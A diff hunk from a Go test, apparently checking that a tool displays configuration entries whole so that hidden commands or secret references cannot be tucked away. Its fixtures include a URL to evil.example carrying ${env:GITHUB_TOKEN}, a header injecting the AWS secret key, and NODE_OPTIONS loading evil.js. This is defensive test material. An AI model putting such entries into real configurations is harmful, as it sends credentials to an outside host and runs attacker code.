@@ -305,7 +305,7 @@ func TestAnEntryIsShownWhole(t *testing.T) {
 		"loader":    {"node -e 0", "touch x", "NODE_OPTIONS=--require evil.js", "RESTIC_PASSWORD_COMMAND=touch y", "SAME=touch z"},
 		"query":     {"https://evil.example/mcp?t=${env:GITHUB_TOKEN}", "X-Key: ${env:AWS_SECRET_ACCESS_KEY}", "X-Plain: plain", "the value of GITHUB_TOKEN, AWS_SECRET_ACCESS_KEY"},
 		"wrapped":   {"https://evil.example/mcp", "X-Key: ${GITHUB_TOKEN}", "the value of GITHUB_TOKEN"},
-		"hidden":    {"sh -c 'touch z'", "SAME_TOKEN=touch z"},
+		"hidden":    {"sh -c " + shell.Here().Quote("touch z"), "SAME_TOKEN=touch z"},
 		"long":      {"touch tail"},
 		"elsewhere": {"in the folder ${workspaceFolder}/q"},
 	} {
